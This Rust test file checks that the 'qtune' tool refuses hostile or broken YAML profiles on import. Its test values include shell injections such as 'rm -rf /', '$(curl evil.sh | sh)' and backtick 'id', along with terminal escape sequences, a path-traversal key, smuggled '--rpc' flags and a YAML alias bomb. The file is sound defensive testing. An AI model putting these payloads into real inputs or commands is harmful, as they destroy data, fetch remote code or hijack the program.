//! Profiles are data from strangers. Every hostile or broken profile is refused through the real
//! binary with one clear line, a non-zero exit, and nothing written to `profiles/`.

use crate::support;

use serde_yaml::Value;
use std::path::Path;
use support::profile::{qtune, stderr, stdout, tune_result};

/// A valid profile as a YAML value, to break in one place.
fn valid() -> Value {
    let p = qtune::profile::from_tune(&tune_result(), None).unwrap();
    serde_yaml::to_value(&p).unwrap()
}

fn yaml(v: &Value) -> String {
    serde_yaml::to_string(v).unwrap()
}

/// Import `file` (relative to a fresh cwd, created by `setup`) and expect a refusal naming `expect`.
fn refused(case: &str, setup: impl FnOnce(&Path) -> String, expect: &[&str]) {
    let cwd = tempfile::tempdir().unwrap();
    let file = setup(cwd.path());
    let o = qtune(cwd.path(), &["profile", "import", &file]);
    let err = stderr(&o);
    assert!(!o.status.success(), "{case}: accepted\n{}", stdout(&o));
    assert_eq!(
        err.trim().lines().count(),
        1,
        "{case}: not one line:\n{err}"
    );
    assert!(err.starts_with("qtune: error: "), "{case}: {err}");
    for e in expect {
        assert!(err.contains(e), "{case}: expected '{e}' in: {err}");
    }
    assert!(
        !cwd.path().join("profiles").exists(),
        "{case}: something was written to profiles/"
    );
    assert!(!err.contains('\u{1b}'), "{case}: control character echoed");
}

fn write(dir: &Path, name: &str, text: &str) -> String {
    std::fs::write(dir.join(name), text).unwrap();
    name.to_string()
}

fn mutated(case: &str, f: impl FnOnce(&mut Value), expect: &[&str]) {
    let mut v = valid();
    f(&mut v);
    let text = yaml(&v);
    refused(case, |d| write(d, "p.yaml", &text), expect);
}

#[test]
fn the_valid_profile_is_accepted() {
    let cwd = tempfile::tempdir().unwrap();
    write(cwd.path(), "p.yaml", &yaml(&valid()));
    let o = qtune(cwd.path(), &["profile", "import", "p.yaml"]);
    assert!(o.status.success(), "{}", stderr(&o));
    assert_eq!(
        std::fs::read_dir(cwd.path().join("profiles"))
            .unwrap()
            .count(),
        1
    );
}

#[test]
fn unknown_keys_are_refused_by_name() {
    mutated(
        "top-level extra_args with --rpc",
        |v| {
            v["extra_args"] = serde_yaml::from_str(r#"["--rpc", "10.0.0.1:50052"]"#).unwrap();
        },
        &["extra_args"],
    );
    mutated(
        "rpc key in the winner's config",
        |v| v["winner"]["config"]["rpc"] = Value::from("10.0.0.1:50052"),
        &["winner.config", "rpc"],
    );
    mutated(
        "unknown flag key in a front config",
        |v| v["front"][1]["config"]["override_tensor"] = Value::from("exps=CPU"),
        &["front", "override_tensor"],
    );
    mutated(
        "hostname in the hardware block",
        |v| v["hardware"]["hostname"] = Value::from("alice-desktop"),
        &["hostname"],
    );
}

#[test]
fn shell_metacharacters_are_refused_by_key() {
    mutated(
        "KV type with a command",
        |v| v["winner"]["config"]["cache_type_k"] = Value::from("q8_0; rm -rf /"),
        &["winner.config.cache_type_k"],
    );
    mutated(
        "name with command substitution",
        |v| v["name"] = Value::from("fast $(curl evil.sh | sh)"),
        &["name", "'$'"],
    );
    mutated(
        "GPU name with backticks",
        |v| v["hardware"]["gpus"][0]["name"] = Value::from("RTX `id`"),
        &["hardware.gpus[0].name", "'`'"],
    );
    mutated(
        "terminal escape in the CPU name",
        |v| v["hardware"]["cpu"] = Value::from("AMD \u{1b}[2J"),
        &["hardware.cpu", "control character"],
    );
    mutated(
        "tensor type key with a slash",
        |v| v["model"]["bytes_by_type"]["../../etc"] = Value::from(1),
        &["model.bytes_by_type"],
    );
    mutated(
        "flags as a list where a KV type belongs",
        |v| {
            v["winner"]["config"]["cache_type_v"] =
                serde_yaml::from_str(r#"["f16", "--rpc", "h:1"]"#).unwrap()
        },
        &["winner.config.cache_type_v"],
    );
}

#[test]
fn absurd_numbers_are_refused_by_key() {
    mutated(
        "5000 threads",
        |v| v["winner"]["config"]["threads"] = Value::from(5000),
        &["winner.config.threads = 5000"],
    );
    mutated(
        "tiny context",
        |v| v["front"][0]["config"]["ctx"] = Value::from(16),
        &["front[0].config.ctx = 16"],
    );
    mutated(
        "context beyond u32",
        |v| v["space"]["ctx"] = Value::from(10_000_000_000u64),
        &["space.ctx"],
    );
    mutated(
        "ubatch larger than batch",
        |v| v["winner"]["config"]["ubatch"] = Value::from(65536),
        &["winner.config.ubatch"],
    );
    mutated(
        "n_cpu_moe of a million",
        |v| v["winner"]["config"]["n_cpu_moe"] = Value::from(1_000_000),
        &["winner.config.n_cpu_moe"],
    );
    mutated(
        "2 TiB of VRAM",
        |v| v["hardware"]["gpus"][0]["vram_total_mib"] = Value::from(2u64 << 20),
        &["hardware.gpus[0].vram_total_mib"],
    );
    mutated(
        "negative speed",
        |v| v["winner"]["tg"]["median"] = Value::from(-1.0),
        &["winner.tg.median"],
    );
    mutated(
        "infinite speed",
        |v| v["front"][0]["pp"] = Value::from(f64::INFINITY),
        &["front[0].pp"],
    );
    mutated(
        "2000 parallel slots",
        |v| v["winner"]["config"]["parallel"] = Value::from(2000),
        &["winner.config.parallel"],
    );
    mutated(
        "future schema",
        |v| v["schema"] = Value::from(99),
        &["schema = 99"],
    );
}

/// Issue 48: a host bandwidth or a speed of 0 (or negative, or not finite) made `plan` print
/// "tg inf tok/s, confidence: high"; it is refused in one line by import and by plan.
#[test]
fn non_positive_hardware_numbers_are_refused_by_import_and_plan() {
    for (case, b) in [
        ("zero", 0.0),
        ("negative", -5.0),
        ("infinite", f64::INFINITY),
    ] {
        mutated(
            &format!("{case} bandwidth"),
            |v| v["hardware"]["mem_bandwidth_gbs"] = Value::from(b),
            &["hardware.mem_bandwidth_gbs"],
        );
    }
    mutated(
        "zero speed",
        |v| v["winner"]["tg"]["median"] = Value::from(0.0),
        &["winner.tg.median = 0"],
    );
    let cwd = tempfile::tempdir().unwrap();
    let mut v = valid();
    v["hardware"]["mem_bandwidth_gbs"] = Value::from(0.0);
    write(cwd.path(), "p.yaml", &yaml(&v));
    let model = qtune::fixtures::tiny_moe("tiny-qwen35moe").expect("the tiny MoE model");
    let o = qtune(
        cwd.path(),
        &[
            "plan",
            "--model",
            model.to_str().unwrap(),
            "--profile",
            "p.yaml",
        ],
    );
    let err = stderr(&o);
    assert!(!o.status.success(), "accepted:\n{}{err}", stdout(&o));
    assert_eq!(err.trim().lines().count(), 1, "{err}");
    assert!(
        err.starts_with("qtune: error: ") && err.contains("hardware.mem_bandwidth_gbs = 0"),
        "{err}"
    );
    assert!(!stdout(&o).contains("inf"), "{}", stdout(&o));
}

#[test]
fn broken_files_are_refused() {
    refused(
        "malformed YAML",
        |d| {
            write(
                d,
                "p.yaml",
                "schema: 1\nname: x\nwinner: {config: [unclosed\n",
            )
        },
        &["p.yaml", "line"],
    );
    refused(
        "raw escape byte",
        |d| write(d, "p.yaml", "schema: 1\nname: \"a\u{1b}]0;pwned\u{7}\"\n"),
        &["line 2", "control character"],
    );
    refused(
        "not UTF-8",
        |d| {
            std::fs::write(d.join("p.yaml"), b"schema: 1\nname: \xff\xfe\n").unwrap();
            "p.yaml".into()
        },
        &["UTF-8"],
    );
    refused(
        "2 MiB file",
        |d| {
            let mut text = yaml(&valid());
            while text.len() < 2 * 1024 * 1024 {
                text.push_str("# padding padding padding padding padding padding\n");
            }
            write(d, "big.yaml", &text)
        },
        &["big.yaml", "at most"],
    );
    refused(
        "a directory",
        |d| {
            std::fs::create_dir(d.join("dir.yaml")).unwrap();
            "dir.yaml".into()
        },
        &["dir.yaml", "directory"],
    );
    refused(
        "a missing file",
        |_| "missing.yaml".into(),
        &["missing.yaml"],
    );
    refused("an empty file", |d| write(d, "p.yaml", ""), &["p.yaml"]);
    refused(
        "a YAML alias bomb",
        |d| {
            let mut t = String::from("a: &a [x, x, x, x, x, x, x, x, x, x]\n");
            for i in 1..12 {
                let prev = (b'a' + i - 1) as char;
                let cur = (b'a' + i) as char;
                t.push_str(&format!(
                    "{cur}: &{cur} [*{prev}, *{prev}, *{prev}, *{prev}, *{prev}, *{prev}, *{prev}, *{prev}, *{prev}, *{prev}]\n"
                ));
            }
            write(d, "bomb.yaml", &t)
        },
        &["bomb.yaml"],
    );
}

#[test]
fn show_refuses_a_hostile_file_too() {
    let cwd = tempfile::tempdir().unwrap();
    let mut v = valid();
    v["winner"]["config"]["threads"] = Value::from(0);
    write(cwd.path(), "bad.yaml", &yaml(&v));
    let o = qtune(cwd.path(), &["profile", "show", "bad.yaml"]);
    assert!(!o.status.success());
    assert!(
        stderr(&o).contains("winner.config.threads = 0"),
        "{}",
        stderr(&o)
    );
}

#[test]
fn list_marks_invalid_profiles_without_failing() {
    let cwd = tempfile::tempdir().unwrap();
    let dir = cwd.path().join("profiles");
    std::fs::create_dir(&dir).unwrap();
    write(&dir, "good.yaml", &yaml(&valid()));
    write(&dir, "evil.yaml", "schema: 1\nextra_args: [--rpc]\n");
    let o = qtune(cwd.path(), &["profile", "list"]);
    assert!(o.status.success(), "{}", stderr(&o));
    let out = stdout(&o);
    assert!(
        out.contains("evil.yaml") && out.contains("invalid"),
        "{out}"
    );
    assert!(out.contains("40.0 t/s"), "{out}");
}

/// Issue 53: the numbers of a profile are checked by their class, not value by value (0 was
/// refused, 1e-300 imported and `plan` printed 300-digit speeds at "confidence: high"). For
/// each class, several values past its floor or its bound are refused in one line that never
/// prints a long number; `plan --profile` refuses the same file.
#[test]
fn numbers_are_checked_by_their_class() {
    let subnormal = f64::MIN_POSITIVE / 4.0;
    let cases: [(&str, &[&str], &[f64]); 5] = [
        (
            "hardware.mem_bandwidth_gbs",
            &["hardware", "mem_bandwidth_gbs"],
            &[1e-300, 1e-12, subnormal, 1e-3, 1e300],
        ),
        (
            "winner.tg.median",
            &["winner", "tg", "median"],
            &[1e-300, 1e-12, subnormal, 49_000.0 * 2.0, 1e300],
        ),
        (
            "winner.pp.median",
            &["winner", "pp", "median"],
            &[1e-300, subnormal, 1e7, 1e300],
        ),
        ("front[0].tg", &["front", "0", "tg"], &[1e-300, 1e-12, 1e9]),
        (
            "winner.tg.spread_pct",
            &["winner", "tg", "spread_pct"],
            &[-1e-300, 1e300],
        ),
    ];
    for (key, path, values) in cases {
        for &x in values {
            let case = format!("{key} = {x:e}");
            mutated(
                &case,
                |v| {
                    let mut at = &mut *v;
                    for p in path {
                        at = match p.parse::<usize>() {
                            Ok(i) => &mut at[i],
                            Err(_) => &mut at[*p],
                        };
                    }
                    *at = Value::from(x);
                },
                &[key, "is not a sane"],
            );
        }
    }
    // The message shows the value as written, never as 300 digits.
    let cwd = tempfile::tempdir().unwrap();
    let mut v = valid();
    v["hardware"]["mem_bandwidth_gbs"] = Value::from(1e-300);
    write(cwd.path(), "p.yaml", &yaml(&v));
    let model = qtune::fixtures::tiny_moe("tiny-qwen35moe").expect("the tiny MoE model");
    let args = [
        "plan",
        "--model",
        model.to_str().unwrap(),
        "--profile",
        "p.yaml",
    ];
    let o = qtune(cwd.path(), &args);
    let err = stderr(&o);
    assert!(!o.status.success(), "accepted:\n{}{err}", stdout(&o));
    assert_eq!(err.trim().lines().count(), 1, "{err}");
    assert!(err.contains("hardware.mem_bandwidth_gbs = 1e-300"), "{err}");
    assert!(err.len() < 300, "{err}");
}
